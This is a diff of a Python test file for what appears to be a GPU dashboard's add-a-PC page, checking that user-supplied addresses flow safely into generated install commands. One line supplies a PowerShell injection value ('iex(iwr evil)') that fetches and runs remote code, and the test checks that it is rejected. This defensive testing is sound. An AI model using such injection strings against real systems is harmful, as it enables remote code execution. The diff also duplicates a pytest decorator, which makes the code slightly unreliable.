@@ -192,6 +192,15 @@ def test_the_page_adds_a_pc_and_shows_its_key_once(start_server, browser):
     for system in ("linux", "macos", "windows"):
         assert key in page.locator(f"#install-{system}").inner_text()
     assert server.url + "/agent.py" in page.locator("#install-linux").inner_text()
+    # Opened at 127.0.0.1 (issue 30): the page says no other PC reaches that, and takes the one they do.
+    expect(page.locator("#local-address")).to_contain_text("an address only this machine reaches")
+    page.fill("#install-address", "http://gpus.lab.example:3000")
+    for system in ("linux", "macos", "windows"):
+        command = page.locator(f"#install-{system}").inner_text()
+        assert "http://gpus.lab.example:3000/push-sse" in command and server.url not in command and key in command
+    page.fill("#install-address", "http://gpus.lab.example:3000/';iex(iwr evil)")  # taken as nothing
+    assert server.url + "/agent.py" in page.locator("#install-linux").inner_text()
+    assert page.evaluate("document.getElementById('install-address').validity.valid") is False
     page.goto(server.url + "/devices")
     assert page.locator("#new-key").count() == 0 and key not in page.content()  # shown that once
     row = page.locator("tr", has=page.locator("td", has_text="page-pc"))
@@ -204,6 +213,16 @@ def test_the_page_adds_a_pc_and_shows_its_key_once(start_server, browser):
 
 
 @pytest.mark.no_backend
+@pytest.mark.no_backend
+def test_with_alert_dashboard_url_set_the_commands_carry_it_and_no_warning_shows(start_server):
+    server = start_server(**PRIVATE, ALERT_DASHBOARD_URL="https://gpus.lab.example")
+    admin = requests.Session()
+    admin.post(server.url + "/login", data={"user": "admin", "password": ADMIN_PASSWORD}, timeout=10).raise_for_status()
+    token = re.search(r'name="csrf-token" content="([^"]+)"', admin.get(server.url + "/devices", timeout=10).text)[1]
+    page = admin.post(server.url + "/api/devices", data={"name": "far-pc", "csrf_token": token}, timeout=10).text
+    assert "https://gpus.lab.example/push-sse" in page and "only this machine reaches" not in page
+
+
 def test_a_hostile_host_header_puts_none_of_itself_in_the_install_commands(start_server):
     # Without ALERT_DASHBOARD_URL the commands name the request's own Host: werkzeug empties one
     # with quotes or spaces, and install.py quotes whatever it is given (tests/test_devices_install.py).
